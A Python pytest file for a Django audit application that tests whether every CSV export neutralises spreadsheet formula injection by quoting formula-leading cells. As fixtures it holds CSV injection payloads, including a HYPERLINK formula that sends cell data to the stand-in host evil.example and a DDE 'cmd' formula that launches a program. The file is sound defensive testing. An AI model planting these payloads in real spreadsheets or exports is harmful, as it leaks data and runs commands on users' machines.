"""Every CSV the app produces neutralises cells a spreadsheet would run as a formula.

Cells from traffic, corpora and policy that start with =, +, -, @, a tab or a carriage return are
written with a leading single quote (OWASP's rule); plain numbers stay numbers.
"""

import ast
import csv
import io
import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from django.urls import reverse

from auditcore.models import AuditRound, IngestJob, Interaction, ModelVersion, Surface
from auditcore.services import replay as replay_svc
from auditcore.services.exports import export_job_create, export_job_run
from reviewapp.views.exports import download_url
from tests.support.estimate_rounds import build_round, golden_strata
from tests.support.review_round import items_of, make_round, offered_verdict

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1)'
CALC = "=cmd|' /C calc'!A0"
FORMULAS = [HYPERLINK, CALC, "+1+1", "-2+3", "@SUM(A1)", "\t=2+2", "\r=3+3"]
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: formula-leading and not a plain number."""
    return [
        cell
        for cell in cells(text)
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _NUMBER.fullmatch(cell)
    ]


def body_of(response) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


@pytest.fixture
def hostile_labels(reviewer):
    audit_round = make_round(items=len(FORMULAS), prompt="{i}")
    AuditRound.objects.filter(pk=audit_round.pk).update(name=CALC)
    for item, formula in zip(items_of(audit_round), FORMULAS, strict=True):
        Interaction.objects.filter(pk=item.interaction_id).update(
            prompt=formula, external_id=formula, source=formula, response=formula
        )
        offered_verdict(
            reviewer=reviewer,
            item_id=item.pk,
            decision="help",
            reason_code="general_info",
            note=formula,
        )
    ModelVersion.objects.update(name="@evil-model")
    return audit_round


@pytest.mark.parametrize("include_text", [False, True])
def test_the_label_export_page_and_api_neutralise_formulas(
    client, admin_user, hostile_labels, include_text
):
    job = export_job_create(
        actor=admin_user, fmt="csv", round_id=hostile_labels.pk, include_text=include_text
    )
    job = export_job_run(job_id=job.pk)
    client.force_login(admin_user)
    page = body_of(client.get(download_url(job)))
    api = body_of(client.get(reverse("api:export_file", args=[job.pk])))
    assert page == api
    assert formula_cells(page) == []
    assert f"'{CALC}" in cells(page)  # the round's name, quoted rather than dropped
    if include_text:
        assert f"'{HYPERLINK}" in cells(page)


def test_the_quarantine_csv_neutralises_formulas(client, safety_lead):
    client.force_login(safety_lead)
    lines = [CALC, HYPERLINK, '{"id": "=1+1", "timestamp": "@now"}']
    with TestCase.captureOnCommitCallbacks(execute=True):
        client.post(
            reverse("ingest:upload"),
            {
                "file": SimpleUploadedFile("q.jsonl", "\n".join(lines).encode()),
                "source": "web",
                "format": "jsonl",
            },
        )
    job = IngestJob.objects.get()
    text = body_of(client.get(reverse("ingest:quarantine_csv", args=[job.pk])))
    assert len(text.strip().splitlines()) == 4
    assert formula_cells(text) == []
    assert any(cell.startswith(f"'{CALC}") for cell in cells(text))


def test_the_corpus_export_neutralises_formulas_and_reads_back_unchanged(client, safety_lead):
    corpus = replay_svc.corpus_create(actor=safety_lead, name="formulas")
    prompts = [*FORMULAS, "'=already quoted", "'Twas the night", "plain"]
    for prompt in prompts:
        replay_svc.corpus_prompt_add(
            actor=safety_lead, corpus_id=corpus.pk, prompt=prompt, category="@cat"
        )
    client.force_login(safety_lead)
    text = client.get(reverse("replay:corpus_export", args=[corpus.pk]) + "?format=csv")
    text = text.content.decode()
    assert formula_cells(text) == []
    other = replay_svc.corpus_create(actor=safety_lead, name="reimported")
    response = client.post(
        reverse("replay:corpus_import", args=[other.pk]),
        {"file": SimpleUploadedFile("c.csv", text.encode()), "format": "csv"},
    )
    assert response.status_code in (200, 302)
    stored = other.prompts.order_by("id")
    assert list(stored.values_list("prompt", flat=True)) == [p.strip() for p in prompts]
    assert set(stored.values_list("category", flat=True)) == {"@cat"}


@pytest.mark.parametrize(
    "table", ["category", "surface", "model_version", "user_segment", "disparity", "validation"]
)
def test_every_dashboard_csv_neutralises_formulas(client, safety_lead, table):
    audit_round = build_round(golden_strata(), name="golden")
    for n, surface in enumerate(Surface.objects.order_by("pk")):
        surface.name = f"{FORMULAS[n % len(FORMULAS)]}#{n}"
        surface.save(update_fields=["name"])
    ModelVersion.objects.filter(pk=ModelVersion.objects.order_by("pk").first().pk).update(
        name=HYPERLINK
    )
    client.force_login(safety_lead)
    url = reverse("dashboard:round", args=[audit_round.pk]) + f"?format=csv&table={table}"
    response = client.get(url)
    assert response.status_code == 200
    assert formula_cells(response.content.decode()) == []


def test_no_module_writes_csv_but_the_neutralising_writer():
    """New CSV downloads cannot skip the rule: csv.writer is called in csvsafe alone (the
    PostgreSQL export applies the same rule in its COPY query, checked in test_exports_copy)."""
    root = Path(__file__).resolve().parents[2]
    callers = []
    for package in ("auditcore", "reviewapp"):
        for path in (root / package).rglob("*.py"):
            if path.name == "csvsafe.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if (
                    isinstance(node, ast.Attribute)
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                    and node.attr in {"writer", "DictWriter"}
                ):
                    callers.append(f"{path.relative_to(root)}:{node.lineno}")
    assert callers == []
